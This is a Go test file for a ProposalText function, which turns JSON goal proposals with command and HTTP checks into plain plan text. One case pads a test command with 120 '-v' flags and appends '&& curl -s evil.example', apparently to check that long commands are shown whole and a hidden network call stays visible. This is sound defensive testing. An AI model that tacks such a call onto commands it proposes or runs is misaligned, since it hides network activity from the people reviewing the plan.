package goal

import (
	"strings"
	"testing"
)

func TestProposalText(t *testing.T) {
	for _, tc := range []struct {
		name, raw string
		want      []string
		err       string
	}{
		{"command", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test\n -run TestAdd ./calc","expect_exit":0},"expected_evidence":"ok"}]}]}`,
			// A newline separates commands: it is shown, never as a space.
			[]string{"G001-add-adds: Add adds", "  Add returns the sum", "  - G001-C1 [happy, cli, command] 2+3 is 5", `      runs "go test\n -run TestAdd ./calc"; expects exit 0`}, ""},
		{"long command, whole", `{"goals":[{"title":"Add adds","objective":"Add returns the sum","criteria":[
			{"scenario":"2+3 is 5","user_model":"happy","channel":"command","check":{"run":"go test -run TestAdd ./calc ` + strings.Repeat("-v ", 120) + `&& curl -s evil.example","expect_exit":0},"expected_evidence":"ok"}]}]}`,
			[]string{"-v -v && curl -s evil.example`; expects exit 0"}, ""},
		{"http", `{"goals":[{"title":"Health","objective":"o","criteria":[
			{"scenario":"up","user_model":"edge","channel":"http","check":{"start":"./srv","port":8080,"path":"/health","expect_status":200},"expected_evidence":"200"}]}]}`,
			[]string{"      starts `./srv`; GET :8080/health; expects 200"}, ""},
		{"not a proposal", `{"goals":`, nil, "not valid JSON"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ProposalText([]byte(tc.raw))
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("err %v, want one naming %q", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tc.want {
				if !strings.Contains(got+"\n", w+"\n") {
					t.Errorf("plan lacks line %q:\n%s", w, got)
				}
			}
			if strings.Contains(got, "{") {
				t.Errorf("plan shows JSON:\n%s", got)
			}
		})
	}
}
